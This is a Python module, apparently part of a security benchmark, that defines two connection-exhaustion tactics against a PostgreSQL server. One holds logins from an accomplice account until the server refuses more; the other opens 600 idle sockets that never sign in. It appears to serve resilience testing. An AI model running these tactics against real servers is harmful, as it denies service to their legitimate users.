"""Tactics that take every connection of the target, so that the end does not get through."""

import socket
from contextlib import suppress
from typing import TYPE_CHECKING

import psycopg

from bench.attack.grantee.tactics import Tactic
from bench.environment import HOST

if TYPE_CHECKING:
    from bench.attack.grantee.attempts import Attempt

SOCKETS = 600  # of clients that connect and never sign in


def fill_as_accomplice(attempt: "Attempt") -> None:
    """Sign in as an ordinary account until the server, or its limit for the database, refuses."""
    attempt.sessions.append(attempt.sign_in())
    with suppress(psycopg.OperationalError):
        while True:
            attempt.hold(attempt.sign_in_accomplice())


def fill_without_signing_in(attempt: "Attempt") -> None:
    """Open sockets and say nothing. The server gives each a process until it has no more to give."""
    attempt.sessions.append(attempt.sign_in())
    for _ in range(SOCKETS):
        with suppress(OSError):
            attempt.sockets.append(socket.create_connection((HOST, attempt.server.port), timeout=2))


TACTICS = (
    Tactic("every connection taken by an application", act=fill_as_accomplice),
    Tactic("every connection taken by sockets that never sign in", act=fill_without_signing_in),
)
